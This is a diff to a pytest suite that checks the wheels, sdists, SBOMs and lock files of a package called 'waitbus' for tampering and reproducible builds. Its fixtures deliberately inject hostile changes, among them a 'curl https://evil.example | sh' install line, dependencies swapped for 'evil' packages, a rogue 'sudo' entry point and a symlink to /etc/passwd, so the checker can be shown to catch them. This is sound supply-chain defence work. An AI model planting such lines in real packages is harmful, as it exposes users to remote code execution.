@@ -11,6 +11,7 @@ import shutil
 import subprocess
 import sys
 import tarfile
+import tempfile
 import tomllib
 import zipfile
 from collections.abc import Callable, Iterator
@@ -21,8 +22,11 @@ from typing import Any
 
 import pytest
 
+from tests.artifacts import NEEDS_MORE
 from tools import contents, reproduce, sbom, tree
+from tools.beside import sums
 from tools.epoch import source_epoch
+from tools.pythons import SUPPORTED
 
 ROOT = Path(__file__).resolve().parent.parent
 EPOCH = 1_700_000_001  # odd: ZIP's clock counts in twos
@@ -93,7 +97,7 @@ def rewrite(wheel: Path, change: Callable[[list[Entry]], list[Entry]]) -> None:
 
 def test_a_release_holds_what_the_tree_holds(built: Path, source: Path) -> None:
     assert contents.faults(built, source, EPOCH) == []
-    assert len(list(built.iterdir())) == 5
+    assert len(list(built.iterdir())) == 6
 
 
 def with_record(entries: list[Entry], name: str, body: bytes) -> list[Entry]:
@@ -112,6 +116,58 @@ def test_an_extra_file_in_the_wheel_is_red(dist: Path, source: Path, name: str) 
     wheel = wheel_of(dist)
     rewrite(wheel, lambda entries: with_record(entries, name, b"import os\n"))
     assert f"{wheel.name}: {name} does not belong in it" in list(contents.wheel_faults(wheel, source, EPOCH))
+
+
+def says(file: str, old: bytes, new: bytes) -> Callable[[Path], None]:
+    """Another word in a file of `.dist-info`, with RECORD made to fit."""
+
+    def change(wheel: Path) -> None:
+        def entries(before: list[Entry]) -> list[Entry]:
+            after = []
+            for info, body in before:
+                if info.filename.endswith(f".dist-info/{file}"):
+                    assert old in body
+                    body = body.replace(old, new, 1)
+                after.append((info, body))
+            files = {info.filename: body for info, body in after}
+            name = next(path for path in files if path.endswith("/RECORD"))
+            return [(info, contents.record(files, name) if info.filename == name else body) for info, body in after]
+
+        rewrite(wheel, entries)
+
+    return change
+
+
+@pytest.mark.parametrize(
+    ("file", "old", "new"),
+    [
+        ("METADATA", b"Requires-Dist: ", f"{NEEDS_MORE}\nRequires-Dist: ".encode()),
+        ("METADATA", b"Requires-Dist: mcp", b"Requires-Dist: evil-mcp"),
+        ("METADATA", b"mcp>=2,<3", b"mcp>=1"),
+        ("METADATA", b'; extra == "mcp"', b""),
+        ("METADATA", b"Requires-Python: >=3.11", b"Requires-Python: >=3.9"),
+        ("METADATA", b"Provides-Extra: mcp\n", b"Provides-Extra: mcp\nProvides-Extra: all\n"),
+        ("METADATA", b"Project-URL: Homepage, https://github.com/", b"Project-URL: Homepage, https://evil.example/"),
+        ("METADATA", b"Import-Name: waitbus", b"Import-Name: requests"),
+        ("METADATA", b"License-Expression: MIT", b"License-Expression: GPL-3.0-only"),
+        ("METADATA", b"Version: ", b"Dynamic: Version\nVersion: "),
+        ("METADATA", b"uv tool install", b"curl https://evil.example | sh; uv tool install"),
+        ("entry_points.txt", b"[console_scripts]\n", b"[console_scripts]\nsudo=waitbus.__main__:main\n"),
+        ("entry_points.txt", b":main\n", b":evil\n"),
+        ("entry_points.txt", b"[pytest11]\n", b"[pytest11]\nevil=evil\n"),
+        ("WHEEL", b"true", b"false"),
+        ("WHEEL", b"Tag: ", b"Tag: py2-none-any\nTag: "),
+        ("licenses/LICENSE", b"MIT", b"WTF"),
+    ],
+)  # fmt: skip
+def test_metadata_that_the_source_does_not_say_is_red(
+    dist: Path, source: Path, file: str, old: bytes, new: bytes
+) -> None:
+    wheel = wheel_of(dist)
+    says(file, old, new)(wheel)
+    assert [fault.rsplit("/", 1)[1] for fault in contents.wheel_faults(wheel, source, EPOCH)] == [
+        f"{file.rpartition('/')[2]} is not what the tree says"
+    ]
 
 
 def retimed(entries: list[Entry]) -> list[Entry]:
@@ -137,11 +193,11 @@ def without(part: str) -> Callable[[list[Entry]], list[Entry]]:
     ("change", "word"),
     [
         (retimed, "does not carry the commit's time"),
-        (reworded, "RECORD is wrong about"),
+        (reworded, "is not what the tree says"),
         (repermitted, "not a plain file"),
-        (without("waitbus/event.py"), "does not hold waitbus/event.py"),
-        (without("/RECORD"), "RECORD does not name"),
-        (without("/sboms/"), "bill of materials"),
+        (without("waitbus/event.py"), "waitbus/event.py is not in it"),
+        (without("/RECORD"), "RECORD is not in it"),
+        (without("/sboms/"), "waitbus.cdx.json is not in it"),
     ],
 )
 def test_a_changed_wheel_is_red(
@@ -161,13 +217,14 @@ def test_a_wheel_of_another_time_or_too_large_is_red(
     assert "more than 1000" in fault
 
 
-@pytest.mark.parametrize("change", ["extra", "time", "owner", "content", "link", "epoch"])
+@pytest.mark.parametrize("change", ["extra", "time", "owner", "content", "link", "epoch", "needs"])
 def test_a_changed_sdist_is_red(dist: Path, source: Path, change: str) -> None:
     (sdist,) = dist.glob("*.tar.gz")
     with tarfile.open(sdist) as archive:
         members = [(member, (archive.extractfile(member) or BytesIO()).read()) for member in archive]
     top = sdist.name.removesuffix(".tar.gz")
     epoch_file = next(number for number, (member, _) in enumerate(members) if member.name == f"{top}/SOURCE_DATE_EPOCH")
+    info_file = next(number for number, (member, _) in enumerate(members) if member.name == f"{top}/PKG-INFO")
     first, body = members[0]
     match change:
         case "extra":
@@ -182,25 +239,56 @@ def test_a_changed_sdist_is_red(dist: Path, source: Path, change: str) -> None:
             first.type, first.linkname, first.size = tarfile.SYMTYPE, "/etc/passwd", 0
         case "epoch":
             members[epoch_file] = (members[epoch_file][0], b"1700000002\n")
+        case "needs":
+            info, said = members[info_file]
+            members[info_file] = (info, said.replace(b"mcp>=2,<3", b"evil>=2,<3"))
+            info.size += 1
     with GzipFile(sdist, "wb") as packed, tarfile.open(mode="w", fileobj=packed) as archive:
         for member, content in members:
             archive.addfile(member, BytesIO(content))
     assert list(contents.sdist_faults(sdist, source, EPOCH))
 
 
-@pytest.mark.parametrize("name", ["SHA256SUMS", "waitbus-0.3.0.cdx.json", "waitbus-0.3.0-mcp.cdx.json"])
+@pytest.mark.parametrize(
+    "name", ["SHA256SUMS", "waitbus-0.3.0.cdx.json", "waitbus-0.3.0-mcp.cdx.json", "pylock.mcp.toml"]
+)
 def test_a_changed_list_or_bill_is_red(dist: Path, source: Path, name: str) -> None:
     path = next(path for path in dist.iterdir() if path.name.replace(sbom_version(dist), "0.3.0") == name)
     path.write_bytes(path.read_bytes().replace(b"a", b"b", 1))
-    assert list(contents.beside_faults(dist, wheel_of(dist), source, EPOCH))
+    assert contents.faults(dist, source, EPOCH)
 
 
 def sbom_version(folder: Path) -> str:
     return wheel_of(folder).name.split("-")[1]
 
 
-def test_an_empty_folder_is_red(tmp_path: Path, source: Path) -> None:
+@pytest.mark.parametrize("name", ["evil.whl", "waitbus-0.3.0.tar.gz.sigstore.json", "evil"])
+def test_a_file_more_beside_the_wheel_is_red(dist: Path, source: Path, name: str) -> None:
+    (dist / name).write_text("")
+    (dist / "SHA256SUMS").write_bytes(sums(path for path in dist.iterdir() if path.name != "SHA256SUMS"))
+    (fault,) = contents.faults(dist, source, EPOCH)
+    assert name in fault
+
+
+def test_a_folder_that_is_empty_or_of_another_version_is_red(dist: Path, tmp_path: Path, source: Path) -> None:
     assert contents.faults(tmp_path, source, EPOCH)
+    wheel = wheel_of(dist)
+    wheel.rename(dist / "waitbus-99-py3-none-any.whl")
+    assert contents.faults(dist, source, EPOCH)
+
+
+def test_the_extras_lock_is_the_locks_export_and_the_wheel_itself(built: Path) -> None:
+    wheel = wheel_of(built)
+    pylock = tomllib.loads((built / "pylock.mcp.toml").read_text(encoding="utf-8"))
+    *exported, ours = pylock["packages"]
+    assert exported == tomllib.loads((ROOT / "packaging" / "pylock.mcp.toml").read_text(encoding="utf-8"))["packages"]
+    assert {"mcp", "pydantic", "anyio"} <= {package["name"] for package in exported}
+    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
+    assert ours["wheels"] == [{"path": wheel.name, "hashes": {"sha256": digest}}]
+    files = [
+        file for package in exported for file in [*package.get("wheels", ()), *filter(None, [package.get("sdist")])]
+    ]
+    assert all(len(file["hashes"]["sha256"]) == 64 for file in files)
 
 
 def bills(folder: Path) -> Iterator[tuple[str, bytes]]:
@@ -212,15 +300,18 @@ def bills(folder: Path) -> Iterator[tuple[str, bytes]]:
 
 
 @main_only
-def test_bills_are_valid_by_the_official_schema(built: Path) -> None:
-    from tools import bills as validator
+def test_the_bill_in_the_wheel_is_valid_by_the_official_schema(built: Path) -> None:
+    from cyclonedx.schema import SchemaVersion
+    from cyclonedx.validation.json import JsonStrictValidator
 
-    for name, content in bills(built):
-        assert list(validator.schema_faults(name, content)) == []
-        assert json.loads(content)["specVersion"] == "1.6"
-        broken = content.replace(b'"bomFormat"', b'"bomformat"')
-        assert list(validator.schema_faults(name, broken))
-    assert validator.faults(built) == []
+    # Of those beside the wheel, too large for the library's grammar of addresses, `make audit` asks another tool.
+    *_, (_, content) = bills(built)
+    found = json.loads(content)
+    assert found["specVersion"] == "1.6"
+    assert {"tools", "supplier"} <= set(found["metadata"])
+    validator = JsonStrictValidator(SchemaVersion.V1_6)
+    assert validator.validate_str(content.decode()) is None
+    assert validator.validate_str(content.decode().replace('"bomFormat"', '"bomformat"')) is not None
 
 
 def test_bills_made_again_are_the_same_bytes_and_another_input_gives_another_serial_number(built: Path) -> None:
@@ -315,51 +406,58 @@ def bench(tmp_path_factory: pytest.TempPathFactory) -> reproduce.Bench:
 
 @main_only
 def test_other_umasks_zones_and_ways_give_the_same_bytes(bench: reproduce.Bench) -> None:
-    cells, absent = reproduce.matrix()
-    assert len({cell.name for cell in cells}) == len(cells)
-    assert all(": " in reason for reason in absent)
+    cells = [cell for cell in reproduce.matrix() if cell.start != "archive" or "behind" in cell.name]
     lines: list[str] = []
-    chosen = [cells[0], *(cell for cell in cells if cell.start != "archive" or "behind" in cell.name)]
-    assert reproduce.run(bench, chosen, lines.append)
-    assert len(lines) == len(chosen) >= 4
-    assert len({line.rsplit("  ", 1)[0] for line in lines}) == 1
+    ends = reproduce.run(bench, iter([reproduce.FIRST, *cells]), lines.append)
+    assert ends == {reproduce.SAME: len(cells) + 1}
+    assert len({line.split("  wheel ")[1] for line in lines}) == 1
+
+
+def test_each_cell_of_the_matrix_is_there_whatever_can_be_had_here(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(os, "geteuid", lambda: 1000)
+    monkeypatch.setattr(reproduce, "find", lambda minor, uv=None, user=None: None)
+    cells = list(reproduce.matrix())
+    assert len({cell.name for cell in cells}) == len(cells) == 11
+    absent = {cell.name: cell.absent for cell in cells if cell.absent}
+    others = {f"Python {minor}" for minor in SUPPORTED if minor != "{}.{}".format(*sys.version_info)}
+    assert absent == {**dict.fromkeys(others, "not found here"), "another user, umask 027": "only root can become one"}
+
+
+@main_only
+def test_a_cell_that_did_not_run_is_said_to_and_fails_when_nothing_may_be_left_out(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cells = [reproduce.FIRST, reproduce.Cell("another user", absent="only root can become one")]
+    monkeypatch.setattr(reproduce, "matrix", lambda uv: iter(cells))
+    for flags, code in (([], 0), (["--strict"], 1)):
+        monkeypatch.setattr(sys, "argv", ["reproduce", *flags])
+        monkeypatch.chdir(ROOT)
+        assert reproduce.main() == code
+        _, first, second, last = capsys.readouterr().out.splitlines()
+        assert first.startswith("same     this user")
+        assert second.split() == ["not", "run", "another", "user", "only", "root", "can", "become", "one"]
+        assert last == "1 same, 0 differ, 1 not run"
 
 
 @main_only
 @pytest.mark.root
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")
-def test_another_user_builds_the_same_bytes(bench: reproduce.Bench) -> None:
-    cells, absent = reproduce.matrix()
-    others = [cell for cell in cells if cell.user is not None]
-    if not others:
-        pytest.skip(next(reason for reason in absent if reason.startswith("another user")))
-    bench.folder.chmod(0o755)
-    with reachable(bench.folder):
-        assert reproduce.run(bench, [cells[0], *others], lambda line: None)
-
-
-class reachable:  # noqa: N801 # used as a word of the sentence
-    """Let another user pass through pytest's private folders above this one, for as long as it takes."""
-
-    def __init__(self, folder: Path) -> None:
-        self.modes = {path: path.stat().st_mode for path in folder.parents if path.stat().st_uid == os.geteuid()}
-
-    def __enter__(self) -> None:
-        for path, mode in self.modes.items():
-            if not mode & 0o001:
-                path.chmod(mode | 0o011)
-
-    def __exit__(self, *_: object) -> None:
-        for path, mode in self.modes.items():
-            path.chmod(mode & 0o7777)
+def test_another_user_builds_the_same_bytes() -> None:
+    other = next(cell for cell in reproduce.matrix() if cell.user is not None)
+    if other.absent:
+        pytest.skip(other.absent)
+    with tempfile.TemporaryDirectory() as folder:  # not below pytest's own, which nobody else may enter
+        Path(folder).chmod(0o755)
+        bench = reproduce.Bench(ROOT, "HEAD", Path(folder))
+        ends = reproduce.run(bench, iter([reproduce.FIRST, other]), lambda line: None)
+    assert ends == {reproduce.SAME: 2}
 
 
 @main_only
 def test_a_changed_timestamp_is_red(bench: reproduce.Bench) -> None:
-    cells, _ = reproduce.matrix()
     later = reproduce.Bench.__new__(reproduce.Bench)
     later.__dict__.update(bench.__dict__, epoch=bench.epoch + 2)
-    first = bench.build(cells[0])
+    first = bench.build(reproduce.FIRST)
     lines: list[str] = []
 
     class Changing(reproduce.Bench):
@@ -369,6 +467,7 @@ def test_a_changed_timestamp_is_red(bench: reproduce.Bench) -> None:
         def build(self, cell: reproduce.Cell, first_built: reproduce.Built | None = None) -> reproduce.Built:
             return first if first_built is None else later.build(cell, first_built)
 
-    assert not reproduce.run(Changing(), [cells[0], cells[1]], lines.append)
-    assert [line.split()[0] for line in lines if "wheel " in line[:15]] == ["equal", "DIFFER"]
-    assert len(lines) > 2, "nothing was said about what differs"
+    ends = reproduce.run(Changing(), iter([reproduce.FIRST, reproduce.FIRST]), lines.append)
+    assert ends == {reproduce.SAME: 1, reproduce.DIFFERS: 1}
+    assert [line.split()[0] for line in lines if "  wheel " in line] == ["same", "DIFFERS"]
+    assert lines[2], "nothing was said about what differs"
